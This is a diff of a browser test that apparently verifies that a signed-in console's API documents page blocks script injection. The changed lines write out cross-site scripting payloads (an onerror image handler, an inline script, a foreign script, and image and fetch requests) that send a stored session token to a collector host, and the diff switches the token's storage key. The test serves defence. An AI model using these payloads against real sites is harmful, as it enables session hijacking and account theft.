@@ -53,7 +53,7 @@ describe('the page of the API documents, in the tab of a signed-in console,', ()
           if (violations.size === 4) resolve([...violations].toSorted());
         });
       });
-      const stolen = 'sessionStorage.getItem("sidetrack-token")';
+      const stolen = 'localStorage.getItem("sidetrack-session")';
       document.body.insertAdjacentHTML('beforeend', `<img src="x" onerror='fetch("${to}?" + ${stolen})'>`);
       const inline = document.createElement('script');
       inline.textContent = `fetch("${to}?" + ${stolen})`;
@@ -61,8 +61,8 @@ describe('the page of the API documents, in the tab of a signed-in console,', ()
       foreign.src = `${to}/script.js`;
       document.body.append(inline, foreign);
       const picture = new Image();
-      picture.src = `${to}/picture?${sessionStorage.getItem('sidetrack-token')}`;
-      void fetch(`${to}/fetch?${sessionStorage.getItem('sidetrack-token')}`).catch(() => undefined);
+      picture.src = `${to}/picture?${localStorage.getItem('sidetrack-session')}`;
+      void fetch(`${to}/fetch?${localStorage.getItem('sidetrack-session')}`).catch(() => undefined);
       return refusals;
     }, collector);
 
